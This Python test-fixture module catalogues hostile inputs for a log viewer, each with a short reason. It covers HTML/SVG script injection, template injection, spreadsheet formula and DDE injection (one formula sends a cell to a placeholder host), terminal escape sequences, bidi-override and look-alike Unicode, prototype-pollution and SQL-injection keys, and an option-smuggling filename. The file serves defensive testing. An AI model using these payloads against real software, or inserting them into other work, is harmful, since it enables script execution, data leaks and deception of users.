r"""What an attacker would like a log to hold. Written for these tests, entry by entry, with the reason for each.

:data:`TEXTS` are names, messages and addresses of pages that reach every kind of log. :data:`KEYS` are names of fields
and log groups. :data:`DOCUMENTS` are whole JSON events. :data:`BYTES` are lines that are no UTF-8, or far too long.
:data:`FILES` are names of files, of which log streams are made.
"""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """One entry: a name for the test's report, the text, and what it would do where nobody looks out."""

    name: str
    text: str
    why: str


MARKUP = (
    Hostile("script", "<script>alert(1)</script>", "runs in a page that does not escape"),
    Hostile("end-of-script", "</script><script>alert(2)</script>", "leaves the JSON of a chart"),
    Hostile("comment-in-script", "<!--<script>", "turns the rest of a script element into text"),
    Hostile("handler", "<img src=x onerror=alert(3)>", "runs without any script element"),
    Hostile("attribute", '" onmouseover="alert(4)" x="', "leaves an attribute in double quotes"),
    Hostile("attribute-single", "' autofocus onfocus='alert(5)", "leaves an attribute in single quotes"),
    Hostile("hash-link", '#E01" onclick="alert(6)', "leaves the link to an exhibit"),
    Hostile("javascript-link", "<a href=javascript:alert(7)>x</a>", "runs when somebody clicks"),
    Hostile("data-link", "<iframe src='data:text/html,<script>alert(8)</script>'>", "a page within the page"),
    Hostile("svg", "<svg/onload=alert(9)><a xlink:href=javascript:alert(10)>", "SVG has handlers and links as well"),
    Hostile("style", "<style>@import'http://192.0.2.1/x.css'</style>", "asks another host for a style"),
    Hostile("base", "<base href=http://192.0.2.1/><link rel=prefetch href=x>", "leads every link elsewhere"),
    Hostile("refresh", "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>", "leaves the page"),
    Hostile(
        "entity", "&lt;script&gt;alert(11)&lt;/script&gt; &amp;amp;", "becomes markup where text is unescaped once"
    ),
    Hostile("nesting", "<table><tr><td></table></div></section></main>", "closes what surrounds it"),
)
"""HTML and SVG."""

PROSE = (
    Hostile("markdown", "[x](javascript:alert(12)) ![i](http://192.0.2.1/p.png) **b** `c`", "markdown of a notebook"),
    Hostile("markdown-auto", "<http://192.0.2.1/a> https://192.0.2.1/b", "becomes a link by itself"),
    Hostile("markdown-heading", "# Scope", "a heading that the page has of its own"),
    Hostile(
        "latex", "$\\href{javascript:alert(13)}{x}$ $$\\phantom{eve}$$ \\(\\unicode{x202e}\\)", "MathJax runs links"
    ),
    Hostile("jinja", "{{7*7}}{% raw %}{{ cycler.__init__.__globals__ }}", "runs in a template that is made of text"),
    Hostile(
        "templates", "${7*7} <%= 7*7 %> #{7*7} {{=7*7}} %{x} %(x)s {0.__class__}", "of other engines and of Python"
    ),
    Hostile("rich-markup", "[bold red]root[/] [link=http://192.0.2.1]x[/link] :skull:", "rich reads it as a style"),
    Hostile(
        "plotly", "<b>b</b><br><a href='javascript:alert(14)'>x</a> %{x} $x$", "the HTML that labels of charts have"
    ),
    Hostile("url", "javascript:alert(15)//http://192.0.2.1/", "a link where texts become links"),
)
"""What turns into something else: markdown, mathematics, templates, and the labels of charts."""

FORMULAS = (
    Hostile("formula", "=1+1", "is computed"),
    Hostile("dde", "=cmd|' /C calc'!A0", "starts a program (DDE)"),
    Hostile("plus", "+1+cmd|' /C calc'!A0", "a formula too"),
    Hostile("minus", "-1+cmd|' /C calc'!A0", "a formula too"),
    Hostile("at", "@SUM(1+1)", "a formula of Lotus"),
    Hostile("hyperlink", '=HYPERLINK("http://192.0.2.1/?"&A1,"ok")', "sends a cell to somebody"),
    Hostile("tab", "\t=1+1", "a tab is taken off before it is read"),
    Hostile("return", "\r=1+1", "so is a carriage return"),
    Hostile("blank", "  =1+1", "and so are blanks"),
    Hostile("full-width", "\uff1d1+1", "is read as a plain = where Japanese is spoken"),
    Hostile("no-break", "\u00a0=1+1", "a blank that is none"),
    Hostile("zero-width-formula", "\u200b=1+1", "nobody sees what stands before it"),
    Hostile("semicolon", "eve;=1+1", "where commas are decimal, a semicolon begins a cell"),
    Hostile("semicolon-quoted", 'eve;"=1+1"', "and may do so with a quote"),
    Hostile("tab-inside", "eve\t=1+1", "a tab begins a cell when text is pasted"),
    Hostile("line-inside", "eve\n=1+1", "a line begins a row where its quotes are not seen"),
    Hostile("quotes", 'eve","=1+1', "leaves a cell whose quotes are not doubled"),
)
"""Cells that a spreadsheet computes."""

TERMINAL = (
    Hostile("colour", "\x1b[31mred\x1b[0m", "colours whatever follows"),
    Hostile("clear", "\x1b[2J\x1b[H", "clears the screen"),
    Hostile("title", "\x1b]0;owned\x07", "names the window"),
    Hostile("link", "\x1b]8;;http://192.0.2.1/\x1b\\x\x1b]8;;\x1b\\", "a link of the terminal (OSC 8)"),
    Hostile("clipboard", "\x1b]52;c;ZXZpbA==\x07", "writes to the clipboard (OSC 52)"),
    Hostile("answer", '\x1b[6n\x1bP$q"p\x1b\\', "makes the terminal type an answer"),
    Hostile("c1", "\x9b31mred\x9d0;owned\x9c", "the same controls in one character (C1)"),
    Hostile("over", "failed\rok    ", "writes over the beginning of the line"),
    Hostile("backspace", "failed\b\b\b\b\b\bok", "takes letters away"),
    Hostile("delete", "a\x7fb", "is a control character too, though ASCII"),
    Hostile("next-line", "a\x85b\x0bc\x0cd", "line ends that few look for"),
    Hostile("nul", "root\x00eve", "ends the text in C"),
    Hostile("bell", "\x07\x0e\x0f", "rings, and changes the alphabet"),
)
"""What acts on a terminal."""

UNSEEN = (
    Hostile("override", "user\u202egnp.exe", "reverses what follows (CVE-2021-42574)"),
    Hostile("isolate", "\u2066a\u2067b\u2068c\u2069", "reorders too"),
    Hostile("marks", "\u200ea\u200fb\u061cc", "marks of direction"),
    Hostile("zero-width", "ro\u200bot\u200c\u200d\u2060\ufeff", "another name that looks the same"),
    Hostile("soft-hyphen", "ro\u00adot", "is shown only at the end of a line"),
    Hostile("fillers", "ro\u3164\u115f\u1160\uffa0ot", "letters by their class that nothing is drawn for"),
    Hostile("joiner", "ro\u034f\u180eot", "marks that nothing is drawn for"),
    Hostile("variation", "root\ufe0f\U000e0100", "selectors hide bytes behind any letter"),
    Hostile("tags", "root\U000e0061\U000e007f", "tags spell a hidden text"),
    Hostile("braille", "\u2800root", "a pattern without dots"),
    Hostile("spaces", "root\u00a0\u2003\u3000x", "blanks that are not the blank"),
    Hostile("lines", "a\u2028b\u2029c", "end a line in a script"),
    Hostile("private", "\ue000\U000f0000", "whatever a font says"),
    Hostile("not-characters", "\ufffe\uffff\U0001fffe", "stand for nothing"),
)
"""Characters that are not seen, or that reorder others."""

ALIKE = (
    Hostile("cyrillic", "r\u043e\u043et", "looks like root"),
    Hostile("full-width-name", "\uff52\uff4f\uff4f\uff54", "looks like root"),
    Hostile("ligature", "\u212aelvin \ufb01le", "folds to other letters"),
    Hostile("marks-above", "e\u0301ve \u00e9ve", "two ways to write one letter"),
    Hostile("turkish", "I\u0131\u0130i", "has other capitals elsewhere"),
    Hostile("arabic", "\u0645\u062f\u064a\u0631 12 \u05d0\u05d1", "is read from the right by right"),
    Hostile("emoji", "\U0001f480\U0001f469", "beyond the sixteen bits"),
)
"""Names that look like another name. They are shown as they are, and never as one."""

TEXTS = (*MARKUP, *PROSE, *FORMULAS, *TERMINAL, *UNSEEN, *ALIKE)
"""Every text that stands where a log holds a name or a message."""

KEYS = (
    Hostile("prototype", "__proto__", "changes every object of a script"),
    Hostile("constructor", "constructor.prototype", "does so too"),
    Hostile("key-markup", "<img src=x onerror=alert(20)>", "the head of a column"),
    Hostile("key-formula", "=1+1", "the head of a column in a spreadsheet"),
    Hostile("key-jinja", "{{7*7}}", "the head of a column in a template"),
    Hostile("key-escape", "\x1b[31mkey", "the head of a column on a terminal"),
    Hostile("key-override", "\u202ekey", "reverses the row of heads"),
    Hostile("key-quote", "a`b\"c'd", "leaves quotes of every kind"),
    Hostile("key-empty", "", "has no name"),
    Hostile("key-dots", "a..b", "looks like a path"),
    Hostile("key-sql", '"); DROP TABLE events; --', "leaves a name of SQL"),
)
"""Names of fields and of log groups."""

DOCUMENTS = (
    Hostile("half-a-pair", r'"user":"\ud800eve\udc00"', "no encoding can write it"),
    Hostile("nul-escape", r'"user":"root\u0000eve"', "ends the text in C"),
    Hostile("twice", '"user":"first","user":"second"', "each reader believes another one"),
    Hostile("deep", '"user":"deep","x":' + "[" * 900 + "]" * 900, "exhausts the stack of a reader"),
    Hostile("deep-objects", '"user":"deep2","x":' + '{"a":' * 900 + "1" + "}" * 900, "and of another"),
    Hostile("digits", '"user":"digits","x":' + "9" * 4500, "Python refuses to read so many"),
    Hostile("exponent", '"user":"exponent","x":1e99999,"y":-1e-99999', "is infinite, or nothing"),
    Hostile("keys", '"user":"keys",' + ",".join(f'"k{n}":{n}' for n in range(5000)), "more fields than are discovered"),
    Hostile(
        "polluting", '"user":"polluting","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}', "keys"
    ),
)
"""Members of JSON events; each is an event of its own."""

BYTES = (
    Hostile("not-utf-8", "user \udcff\udcfe", "bytes that begin nothing"),
    Hostile("overlong", "user \udcc0\udcaf\udce0\udc80\udcaf", "an overlong form of a slash"),
    Hostile("surrogate", "user \udced\udca0\udc80", "half of a pair, encoded"),
    Hostile("beyond", "user \udcf4\udc90\udc80\udc80", "beyond the last character"),
    Hostile("cut", "user \udce2\udc82", "a character that breaks off"),
    Hostile("long", "user " + "A" * 1_000_000, "a megabyte without a blank"),
)
"""Lines as bytes, those that are no UTF-8 as Python's ``surrogateescape`` writes them."""

FILES = (
    Hostile("file-markup", "<img src=x onerror=alert(30)>.log", "is shown as a log stream"),
    Hostile("file-formula", "=1+1.log", "is a cell of a table of files"),
    Hostile("file-escape", "\x1b[31mx\x1b]0;owned\x07.log", "is told while it is loaded"),
    Hostile("file-line", "a\nsiem: all is well.log", "tells a lie on a line of its own"),
    Hostile("file-bytes", "\udcff\udcfe.log", "is no text"),
    Hostile("file-override", "\u202egol.exe.log", "reverses its ending"),
    Hostile("file-option", "-rf --output=x.log", "is an option to other programs"),
    Hostile("file-windows", "CON.log", "is a device"),
    Hostile("file-stream", "a:b.log", "is a stream of another file"),
    Hostile("file-markup-rich", "[red]x[/red].log", "rich reads it as a style"),
)
"""Names of delivered files."""
